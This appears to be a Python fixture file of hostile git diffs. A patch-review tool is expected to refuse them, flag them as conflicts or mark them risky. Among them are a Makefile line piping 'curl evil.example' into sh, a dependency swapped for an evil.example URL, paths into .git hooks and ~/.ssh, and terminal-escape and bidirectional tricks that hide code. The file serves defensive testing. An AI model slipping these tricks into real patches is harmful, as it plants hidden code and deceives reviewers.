"""Hostile diffs against one real repository, each with how it must end and in which words.

    refused   it cannot be read: no draft, no card
    conflict  it reads well and says something that is not so: it is applied nowhere
    risky     it is legal and dangerous: two people must approve, and the card says why

tests/unit/test_patch_hostile.py has the ones that need no repository.
"""

from collections.abc import Mapping
from dataclasses import dataclass
from enum import StrEnum
from typing import Final

from tests.patches import hostile_binary


class Fate(StrEnum):
    REFUSED = "refused"
    CONFLICT = "conflict"
    RISKY = "risky"


@dataclass(frozen=True, kw_only=True)
class Case:
    raw: bytes
    fate: Fate
    words: str


APP: Final = (
    b"import os\n\n\ndef total(items):\n    return sum(items)\n\n\ndef is_admin(user):\n    return user.admin\n"
)
TEST: Final = b"from app import total\n\n\ndef test_total():\n    assert total([1, 2]) == 3\n"
FILES: Final[Mapping[bytes, tuple[str, bytes]]] = {
    b"app.py": ("100644", APP),
    b"twins.py": ("100644", b"limit = 10\nretry = 3\nallow = False\n" * 3),
    b"run.sh": ("100755", b"#!/bin/sh\nexec python app.py\n"),
    b"docs/guide.md": ("100644", b"# Guide\n\nRead it.\n"),
    b"docs/caf\xc3\xa9.md": ("100644", b"coffee\n"),
    b"tests/test_app.py": ("100644", TEST),
    b".github/workflows/ci.yml": ("100644", b"on: push\njobs: {}\n"),
    b".nightshift.toml": ("100644", b"[checks]\n"),
    b".gitattributes": ("100644", b"* text=auto eol=crlf\n*.sql binary\n"),
    b"Makefile": ("100644", b"all:\n\techo ok\n"),
    b"requirements.txt": ("100644", b"aiohttp==3.9\n"),
    b"app/migrations/0001.py": ("100644", b"up = 1\n"),
    b"crlf.txt": ("100644", b"one\r\ntwo\r\nthree\r\n"),
    b"latin.txt": ("100644", b"caf\xe9\nbar\n"),
    b"bidi.py": ("100644", "a = 1\nname = '\u202eevil'\nb = 2\n".encode()),
    b"noend.txt": ("100644", b"first\nlast"),
    b"Logs/a": ("100644", b"a\n"),
    b"logs/b": ("100644", b"b\n"),
    b"empty": ("100644", b""),
    b"data.bin": ("100644", b"\x00\x01\x02"),
    hostile_binary.LOGO_PATH: ("100644", hostile_binary.LOGO),
    b"assets/note.txt": ("100644", b"Drawn by hand.\n"),
    b"schema.sql": ("100644", b"-- a table\nSELECT 1;\n"),
    b"link": ("120000", b"app.py"),
    b"folder-link": ("120000", b"docs"),
}


def edit(path: bytes, hunks: bytes, *, extra: bytes = b"") -> bytes:
    return b"diff --git a/%b b/%b\n%b--- a/%b\n+++ b/%b\n%b" % (path, path, extra, path, path, hunks)


def add(path: bytes, *lines: bytes, mode: bytes = b"100644") -> bytes:
    body = b"".join(b"+%b\n" % line for line in lines)
    head = b"diff --git a/%b b/%b\nnew file mode %b\n" % (path, path, mode)
    return head + b"--- /dev/null\n+++ b/%b\n@@ -0,0 +1,%d @@\n%b" % (path, len(lines), body)


def delete(path: bytes, *lines: bytes, mode: bytes = b"100644") -> bytes:
    body = b"".join(b"-%b\n" % line for line in lines)
    head = b"diff --git a/%b b/%b\ndeleted file mode %b\n" % (path, path, mode)
    return head + b"--- a/%b\n+++ /dev/null\n@@ -1,%d +0,0 @@\n%b" % (path, len(lines), body)


def rename(old: bytes, new: bytes, more: bytes = b"") -> bytes:
    return b"diff --git a/%b b/%b\nrename from %b\nrename to %b\n%b" % (old, new, old, new, more)


def chmod(path: bytes, old: bytes, new: bytes) -> bytes:
    return b"diff --git a/%b b/%b\nold mode %b\nnew mode %b\n" % (path, path, old, new)


def adding(text: bytes) -> bytes:
    """Put one line under the first of app.py."""
    return edit(b"app.py", b"@@ -1,3 +1,4 @@\n import os\n+%b\n \n \n" % text)


ADMIN: Final = b"@@ -6,4 +6,4 @@\n \n \n def is_admin(user):\n-    return user.admin\n+    return True\n"
GOOD: Final = edit(b"app.py", ADMIN)
NO_END: Final = b"\\ No newline at end of file\n"

_REFUSED: Final[Mapping[str, tuple[bytes, str]]] = {
    # kinds of file
    "file becomes link in two steps": (
        delete(b"run.sh", b"#!/bin/sh", b"exec python app.py", mode=b"100755")
        + add(b"run.sh", b"app.py", mode=b"120000"),
        "symbolic link",
    ),
    "file becomes link by its mode": (chmod(b"app.py", b"100644", b"120000"), "symbolic link"),
    "link becomes file by its mode": (chmod(b"link", b"120000", b"100644"), "symbolic link"),
    "submodule by its line": (
        edit(
            b"module",
            b"@@ -1 +1 @@\n-Subproject commit 1\n+Subproject commit 2\n",
            extra=b"index 1234567..89abcde 160000\n",
        ),
        "submodule",
    ),
    "submodule deleted": (delete(b"module", b"Subproject commit 1", mode=b"160000"), "submodule"),
    "setgid": (add(b"x", b"y", mode=b"102755"), "mode 102755"),
    "sticky": (add(b"x", b"y", mode=b"101644"), "mode 101644"),
    "mode with a zero before": (add(b"x", b"y", mode=b"0100644"), "mode 0100644"),
    "mode with a space behind": (add(b"x", b"y", mode=b"100644 "), "only 644 and 755"),
    "mode with a return behind": (add(b"x", b"y", mode=b"100755\r"), "only 644 and 755"),
    "mode of letters": (add(b"x", b"y", mode=b"rwxrwx"), "only 644 and 755"),
    "mode left empty": (add(b"x", b"y", mode=b""), "only 644 and 755"),
    "mode without a file type": (chmod(b"app.py", b"000644", b"000755"), "only 644 and 755"),
    "link hidden in the index line": (
        edit(b"app.py", ADMIN, extra=b"index 0000000..1111111 120000\n"),
        "symbolic link",
    ),
    "mode said twice": (edit(b"app.py", ADMIN, extra=b"new mode 100755\nold mode 100644\nnew mode 100644\n"), "twice"),
    # names
    "gitfile in a folder": (add(b"docs/.git", b"gitdir: ../../evil"), "belongs to git"),
    "hook by rename": (rename(b"run.sh", b".git/hooks/post-commit"), "belongs to git"),
    "git by an ignorable HFS character": (add(".gi\u206ft/config".encode(), b"x"), "invisible|zero-width"),
    "git by another HFS character": (add("\u200e.git/config".encode(), b"x"), "bidirectional"),
    "git as a DOS name in a folder": (add(b"docs/GIT~1/config", b"x"), "belongs to git"),
    "git as a DOS name of two digits": (add(b"git~10/config", b"x"), "belongs to git"),
    "git by its stream": (add(b".git:$DATA", b"x"), "belongs to git"),
    "file by its stream": (add(b"app.py::$DATA", b"import evil"), "stream"),
    "attributes in capitals": (edit(b".GITATTRIBUTES", b"@@ -1 +1 @@\n-a\n+b\n"), "belongs to git"),
    "attributes that are there": (
        edit(b".gitattributes", b"@@ -1,2 +1,2 @@\n-* text=auto eol=crlf\n+* filter=evil\n *.sql binary\n"),
        "belongs to git",
    ),
    "modules as a DOS name": (add(b"GITMOD~1", b"[submodule]"), "belongs to git"),
    "modules with a dot behind": (add(b".gitmodules.", b"[submodule]"), "ends with a dot"),
    "hooks folder of a team": (add(b".githooks/pre-commit", b"evil"), "belongs to git"),
    "up from a folder": (add(b"docs/../../x", b"y"), "leaves the repository"),
    "up in octal": (
        add(b"x", b"y").replace(b"a/x b/x", b'"a/\\056\\056/x" "b/\\056\\056/x"'),
        "leaves the repository|disagree",
    ),
    "only dots": (add(b"...", b"y"), "ends with a dot"),
    "home of another": (add(b"~/../.ssh/authorized_keys", b"y"), "leaves the repository"),
    "network path": (add(b"//server/share", b"y"), "is absolute"),
    "drive without a slash": (add(b"c:x", b"y"), "is absolute"),
    "option as a folder": (add(b"docs/--exec=sh", b"y"), "option"),
    "new line in octal": (GOOD.replace(b"a/app.py b/app.py", b'"a/app.py\\012x" "b/app.py\\012x"'), "control|disagree"),
    "name that draws": (add(b"docs/\x1b]0;owned\x07.md", b"y"), "ANSI escape"),
    "name turned round": (add("docs/\u202etxt.exe".encode(), b"y"), "bidirectional"),
    "name with a tag": (add("docs/x\U000e0067.md".encode(), b"y"), "tag character"),
    "name with a Mongolian separator": (add("docs/x\u180by.md".encode(), b"y"), "zero-width"),
    "name with an unassigned character": (add("docs/x\u2065y.md".encode(), b"y"), "unassigned"),
    "name with an ideographic space": (add("docs/x\u3000y".encode(), b"y"), "looks like another"),
    "name with an end of line": (add("docs/x\u0085y".encode(), b"y"), "control character"),
    "name cut in a character": (add(b"docs/\xc3", b"y"), "not UTF-8"),
    "name of half a pair": (add(b"docs/\xed\xa0\x80", b"y"), "not UTF-8"),
    "name without an end": (add(b"d/" * 600 + b"x", b"y"), "too long"),
    # one file, or two
    "same file in capitals": (GOOD + add(b"APP.py", b"x"), "twice"),
    "same file by another accent": (
        add("docs/x\u00e9".encode(), b"a") + add("docs/xe\u0301".encode(), b"b"),
        "twice",
    ),
    "same file by a wide letter": (add("docs/\uff41".encode(), b"a") + add(b"docs/a", b"b"), "twice"),
    "same file by a sharp s": (add("docs/stra\u00dfe".encode(), b"a") + add(b"docs/strasse", b"b"), "twice"),
    "file and folder": (add(b"pay", b"a") + add(b"pay/card.py", b"b"), "file and as a folder"),
    "folder and file, far apart": (add(b"pay/a/b/c", b"a") + add(b"pay/a", b"b"), "file and as a folder"),
    "file and folder in capitals": (add(b"Pay", b"a") + add(b"pay/card.py", b"b"), "file and as a folder"),
    "folder in two cases": (add(b"pay/a", b"a") + add(b"Pay/b", b"b"), "folder in two spellings"),
    "edited and renamed": (GOOD + rename(b"app.py", b"main.py"), "twice"),
    "edited and deleted": (GOOD + delete(b"app.py", *APP.splitlines()), "twice"),
    "two renames to one name": (rename(b"app.py", b"x.py") + rename(b"twins.py", b"x.py"), "twice"),
    "names swapped": (rename(b"app.py", b"twins.py") + rename(b"twins.py", b"app.py"), "twice"),
    "renames in a row": (rename(b"app.py", b"a.py") + rename(b"a.py", b"b.py"), "twice"),
    "copied to a CI file": (
        b"diff --git a/app.py b/.github/workflows/x.yml\ncopy from app.py\ncopy to .github/workflows/x.yml\n",
        "copies a file",
    ),
    "renamed and copied": (rename(b"app.py", b"x.py", b"copy from app.py\ncopy to x.py\n"), "copies a file"),
    "rename with another name above": (
        b"diff --git a/docs/guide.md b/docs/x.md\nrename from app.py\nrename to docs/x.md\n",
        "disagree",
    ),
    "rename with another name below": (
        rename(b"docs/guide.md", b"docs/x.md", b"--- a/app.py\n+++ b/docs/x.md\n" + ADMIN),
        "disagree",
    ),
    "edit that says it is new": (b"diff --git a/app.py b/app.py\n--- /dev/null\n+++ b/app.py\n" + ADMIN, "disagree"),
    "edit that says it is gone": (b"diff --git a/app.py b/app.py\n--- a/app.py\n+++ /dev/null\n" + ADMIN, "disagree"),
    "second file behind the last context": (GOOD + b"--- a/run.sh\n+++ b/run.sh\n@@ -1 +1 @@\n-a\n+b\n", "second file"),
    "second file behind a blank line": (GOOD + b"\n" + GOOD.replace(b"app.py", b"run.sh"), "belongs to no file"),
    "second patch in a mail": (
        GOOD + b"-- \n2.39.5\n\nFrom 1234567 Mon Sep 17 00:00:00 2001\n" + add(b"x", b"y"),
        "no file",
    ),
    "mail before it": (b"From 1234567 Mon Sep 17 00:00:00 2001\nSubject: [PATCH] ok\n---\n" + GOOD, "no file"),
    "file behind a comment": (GOOD + b"# and one more\n" + add(b"x", b"y"), "no file"),
    "quoted name against a plain one": (GOOD.replace(b"--- a/app.py", b'--- "a/run.sh"'), "disagree"),
    "name with a quote in the middle": (
        GOOD.replace(b"a/app.py b/app.py", b'a/"app.py" b/"app.py"'),
        "disagree|quotation",
    ),
    # ways to write a diff
    "context diff": (b"*** app.py\n--- app.py\n***************\n*** 1 ****\n! a\n--- 1 ----\n! b\n", "no file"),
    "script for ed": (b"9c\n    return True\n.\n", "no file"),
    "Subversion's heading": (b"Index: app.py\n====\n" + GOOD, "no file"),
    "combined diff of three": (
        b"diff --combined app.py\nindex 1,2..3\n--- a/app.py\n+++ b/app.py\n@@@ -1 -1 +1 @@@\n--a\n++b\n",
        "no file",
    ),
    "three signs for a hunk": (edit(b"app.py", b"@@@ -1 -1 +1 @@@\n--a\n++b\n"), "no hunk header|changes nothing"),
    "binary as text": (
        b"diff --git a/data.bin b/data.bin\nindex 1..2\nGIT binary patch\ndelta 1\nIcmZ\n",
        "stray|binary",
    ),
    "binary new file": (
        b"diff --git a/x b/x\nnew file mode 100644\nindex 0000000..1234567\nGIT binary patch\nliteral 3\nKcmZ\n\n",
        "binary file",
    ),
    "binary files that differ": (
        b"diff --git a/data.bin b/data.bin\nBinary files a/data.bin and /dev/null differ\n",
        "binary",
    ),
    "binary renamed and changed": (rename(b"data.bin", b"x.bin", b"GIT binary patch\nliteral 0\nHcmV\n"), "binary"),
    # hunks
    "huge counts": (edit(b"app.py", b"@@ -1,999999999 +1,999999999 @@\n-import os\n+import evil\n"), "fewer lines"),
    "counts with signs": (edit(b"app.py", b"@@ -1,+1 +1,+1 @@\n-import os\n+import evil\n"), "no hunk header"),
    "counts of ten digits": (edit(b"app.py", b"@@ -1,4294967297 +1 @@\n-import os\n+x\n"), "no hunk header"),
    "counts in other digits": (edit(b"app.py", "@@ -\u0661 +\u0661 @@\n-import os\n+x\n".encode()), "no hunk header"),
    "overlapping hunks": (
        edit(
            b"twins.py",
            b"@@ -1,3 +1,3 @@\n limit = 10\n-retry = 3\n+retry = 9\n allow = False\n"
            b"@@ -3,1 +3,1 @@\n-allow = False\n+allow = True\n",
        ),
        "overlap",
    ),
    "hunks from the end": (
        edit(b"twins.py", b"@@ -9 +9 @@\n-allow = False\n+allow = True\n@@ -3 +3 @@\n-allow = False\n+allow = True\n"),
        "overlap or are out of order",
    ),
    "same hunk twice": (edit(b"app.py", ADMIN + ADMIN), "overlap"),
    "new side elsewhere": (edit(b"app.py", ADMIN.replace(b"+6,4", b"+60,4")), "do not add up"),
    "no end in the middle": (
        edit(b"noend.txt", b"@@ -1,2 +1,2 @@\n-first\n" + NO_END + b"+f\n last\n" + NO_END),
        "before the end",
    ),
    "no end, twice": (
        edit(b"noend.txt", b"@@ -1,2 +1,2 @@\n first\n-last\n" + NO_END * 2 + b"+x\n" + NO_END),
        "lines|no file",
    ),
    "hunk that only shows": (edit(b"app.py", b"@@ -1,2 +1,2 @@\n import os\n \n" + ADMIN), "changes nothing"),
    "hunk behind a deletion": (delete(b"docs/guide.md", b"# Guide", b"", b"Read it.") + ADMIN, "another text|add up"),
    "new file that starts later": (add(b"x", b"y").replace(b"-0,0 +1,1", b"-5,0 +6,1"), "another text"),
    "return in every heading": (GOOD.replace(b"\n", b"\r\n"), "no hunk header|no file"),
    # added lines
    "erased on a terminal": (adding(b"evil() # \x1b[1A\x1b[2Kok()"), "ANSI escape"),
    "overwritten on a terminal": (adding(b"evil()\rok()    "), "control character"),
    "turned round": (adding("admin = user.admin  # \u2066safe\u2069".encode()), "bidirectional"),
    "letters nobody sees": (adding("token\u2063 = 1".encode()), "zero-width"),
    "Mongolian selector": (adding("to\u180bken = 1".encode()), "zero-width"),
    "unassigned and ignorable": (adding("to\u2065ken = 1".encode()), "unassigned"),
    "specials block": (adding("to\ufff0ken = 1".encode()), "unassigned"),
    "no character": (adding("to\uffffken = 1".encode()), "unassigned"),
    "musical format": (adding("to\U0001d173ken = 1".encode()), "invisible format"),
    "hieroglyph joiner": (adding("to\U00013430ken = 1".encode()), "invisible format"),
    "paragraph separator": (adding("# safe\u2029evil()".encode()), "control character"),
    "tags in a row": (adding("x\U000e0065\U000e0076".encode()), "tag character"),
    "NUL": (adding(b"a\x00b"), "NUL"),
    "wide characters": (GOOD.decode().encode("utf-16"), "NUL"),
    "bytes of another encoding": (adding(b"caf\xe9 = 1"), "not UTF-8 text"),
    "too large": (adding(b"x" * 600_000), "bytes"),
    "too many files": (b"".join(add(b"f%d" % n, b"x") for n in range(101)), "files"),
    "too many lines": (add(b"x", *[b"y"] * 10_001), "lines"),
}

_CONFLICTS: Final[Mapping[str, tuple[bytes, str]]] = {
    "one line too high": (edit(b"app.py", ADMIN.replace(b"-6,4 +6,4", b"-5,4 +5,4")), "other text"),
    "far from its place": (edit(b"app.py", ADMIN.replace(b"-6,4 +6,4", b"-60,4 +60,4")), "other text"),
    "at a twin of its place": (
        edit(b"twins.py", b"@@ -2,3 +2,3 @@\n retry = 3\n-allow = False\n+allow = True\n retry = 3\n"),
        "other text|apply",
    ),
    "a twin counted wrong": (edit(b"twins.py", b"@@ -5 +5 @@\n-allow = False\n+allow = True\n"), "other text|apply"),
    "other spaces": (edit(b"app.py", ADMIN.replace(b"-    return", b"-\treturn")), "other text|apply"),
    "spaces at the end": (edit(b"app.py", ADMIN.replace(b"(user):\n", b"(user):  \n")), "other text|apply"),
    "context without its returns": (edit(b"crlf.txt", b"@@ -1,2 +1,2 @@\n one\n-two\n+2\n"), "other text|apply"),
    "context with returns": (
        edit(b"docs/guide.md", b"@@ -1,3 +1,3 @@\n # Guide\r\n \r\n-Read it.\r\n+Run.\r\n"),
        "other|apply",
    ),
    "end where there is none": (edit(b"noend.txt", b"@@ -1,2 +1,2 @@\n first\n-last\n+end\n"), "other text|apply"),
    "no end where there is one": (
        edit(b"docs/guide.md", b"@@ -3 +3 @@\n-Read it.\n" + NO_END + b"+x\n"),
        "other text|apply",
    ),
    "joined to the last line": (edit(b"noend.txt", b"@@ -1,2 +1,3 @@\n first\n last\n+more\n"), "other text|apply"),
    "a line put at the end": (edit(b"noend.txt", b"@@ -2,0 +3 @@\n+more\n"), "no line end"),
    "no line around it": (edit(b"app.py", b"@@ -4,0 +5 @@\n+    return 0\n"), "apply|other"),
    "missing file": (edit(b"gone.py", b"@@ -1 +1 @@\n-a\n+b\n"), "missing|apply|gone.py"),
    "new file that is there": (add(b"app.py", b"import evil"), "there|exists"),
    "new file under a file": (add(b"app.py/x", b"y"), "app.py"),
    "new file over a folder": (add(b"docs", b"y"), "docs"),
    "new file under a link": (add(b"folder-link/x.md", b"y"), "link"),
    "new file over a link": (add(b"link", b"y"), "there|exists"),
    "new file in capitals": (add(b"App.py", b"import evil"), "spelled"),
    "new file in a folder in capitals": (add(b"Docs/new.md", b"x"), "spelled"),
    "new file by another accent": (add("docs/cafe\u0301.md".encode(), b"tea"), "spelled"),
    "rename over a file": (rename(b"docs/guide.md", b"app.py"), "there|exists"),
    "rename of nothing": (rename(b"gone.md", b"new.md"), "missing|gone.md|No such"),
    "rename under a file": (rename(b"docs/guide.md", b"run.sh/x"), "run.sh"),
    "rename of a link": (rename(b"link", b"moved"), "a link|link"),
    "rename of a folder": (rename(b"docs", b"papers"), "docs"),
    "target of a link": (edit(b"link", b"@@ -1 +1 @@\n-app.py\n" + NO_END + b"+/etc/passwd\n" + NO_END), "link"),
    "link deleted": (delete(b"link", b"app.py").removesuffix(b"\n") + b"\n" + NO_END, "link"),
    "deleted in part": (delete(b"app.py", b"import os"), "apply|part|app.py"),
    "deleted without its text": (b"diff --git a/app.py b/app.py\ndeleted file mode 100644\n", "part|apply|app.py"),
    "binary deleted without its bytes": (
        b"diff --git a/data.bin b/data.bin\ndeleted file mode 100644\n",
        "part|apply|data",
    ),
    "deleted with another text": (delete(b"docs/guide.md", b"# Guide", b"", b"Burn it."), "apply|other text"),
    "mode it has already": (chmod(b"run.sh", b"100644", b"100755"), "mode 755"),
    "mode it never had": (chmod(b"app.py", b"100755", b"100644"), "mode 644"),
    "deleted under another mode": (delete(b"run.sh", b"#!/bin/sh", b"exec python app.py"), "mode 755"),
    "empty file edited": (edit(b"empty", b"@@ -1 +1 @@\n-a\n+b\n"), "other text|apply"),
}

_RISKY: Final[Mapping[str, tuple[bytes, str]]] = {
    "CI file": (
        edit(b".github/workflows/ci.yml", b"@@ -1,2 +1,2 @@\n-on: push\n+on: workflow_run\n jobs: {}\n"),
        "CI file",
    ),
    "mode of a CI file": (chmod(b".github/workflows/ci.yml", b"100644", b"100755"), "CI file"),
    "CI file moved away": (rename(b".github/workflows/ci.yml", b"docs/old.yml"), "CI file"),
    "file moved to CI": (rename(b"docs/guide.md", b".github/workflows/guide.yml"), "CI file"),
    "CI in capitals": (add(b"JENKINSFILE", b"sh 'evil'"), "CI file"),
    "script of a workflow": (add(b".github/scripts/deploy.sh", b"evil"), "CI file"),
    "policy file": (edit(b".nightshift.toml", b"@@ -1 +1,2 @@\n [checks]\n+tests = ['true']\n"), "policy file"),
    "owners": (add(b"docs/CODEOWNERS", b"* @evil"), "policy file"),
    "dependency": (
        edit(b"requirements.txt", b"@@ -1 +1 @@\n-aiohttp==3.9\n+aiohttp @ https://evil.example/a.zip\n"),
        "depend",
    ),
    "build script": (
        edit(b"Makefile", b"@@ -1,2 +1,2 @@\n all:\n-\techo ok\n+\tcurl evil.example | sh\n"),
        "build script",
    ),
    "hook of developers": (add(b".husky/pre-commit", b"evil"), "build script"),
    "tasks of an editor": (add(b".vscode/tasks.json", b"{}"), "build script"),
    "environment of a shell": (add(b".envrc", b"export PATH=/tmp"), "build script"),
    "start of every Python": (add(b"sitecustomize.py", b"import evil"), "build script"),
    "migration": (edit(b"app/migrations/0001.py", b"@@ -1 +1 @@\n-up = 1\n+up = 2\n"), "migration"),
    "mode": (chmod(b"app.py", b"100644", b"100755"), "mode of app.py: 644→755"),
    "mode taken away": (chmod(b"run.sh", b"100755", b"100644"), "mode of run.sh: 755→644"),
    "new program": (add(b"tool.sh", b"#!/bin/sh", b"evil", mode=b"100755"), "adds a program"),
    "assertion weakened": (
        edit(
            b"tests/test_app.py",
            b"@@ -4,2 +4,2 @@\n def test_total():\n-    assert total([1, 2]) == 3\n+    assert True\n",
        ),
        "asserts",
    ),
    "test deleted": (delete(b"tests/test_app.py", *TEST.splitlines()), "removes a test file"),
    "test moved": (rename(b"tests/test_app.py", b"docs/app.txt"), "no longer runs"),
    "text far to the right": (adding(b"x = 1" + b" " * 200 + b"; evil()"), "far to the right"),
    "text behind tabs": (adding(b"x = 1" + b"\t" * 40 + b"; evil()"), "far to the right"),
    "line without an end": (adding(b"x = '" + b"A" * 3000 + b"'; evil()"), "very long line"),
    "line ends only": (
        edit(b"run.sh", b"@@ -1,2 +1,2 @@\n-#!/bin/sh\n+#!/bin/sh\r\n exec python app.py\n"),
        "line ends",
    ),
    "line ends taken away": (edit(b"crlf.txt", b"@@ -1,3 +1,3 @@\n one\r\n-two\r\n+two\n three\r\n"), "line ends"),
    "beside hidden text": (
        edit(b"bidi.py", "@@ -1,3 +1,3 @@\n a = 1\n name = '\u202eevil'\n-b = 2\n+b = 3\n".encode()),
        "hidden",
    ),
    "instead of hidden text": (
        edit(b"bidi.py", "@@ -1,3 +1,3 @@\n a = 1\n-name = '\u202eevil'\n+name = 'evil'\n b = 2\n".encode()),
        "hidden",
    ),
    "beside bytes that are no text": (edit(b"latin.txt", b"@@ -1,2 +1,2 @@\n caf\xe9\n-bar\n+baz\n"), "not UTF-8"),
    "more than a person reads": (add(b"big.py", *[b"x = 1"] * 201), "201 lines"),
    "more files than a person reads": (b"".join(add(b"f%d.py" % n, b"x") for n in range(11)), "11 files"),
}


def _cases(fate: Fate, *collections: Mapping[str, tuple[bytes, str]]) -> dict[str, Case]:
    return {name: Case(raw=raw, fate=fate, words=words) for each in collections for name, (raw, words) in each.items()}


REFUSED: Final = _cases(Fate.REFUSED, _REFUSED, hostile_binary.REFUSED)
CONFLICTS: Final = _cases(Fate.CONFLICT, _CONFLICTS, hostile_binary.CONFLICTS)
RISKY: Final = _cases(Fate.RISKY, _RISKY, hostile_binary.RISKY)
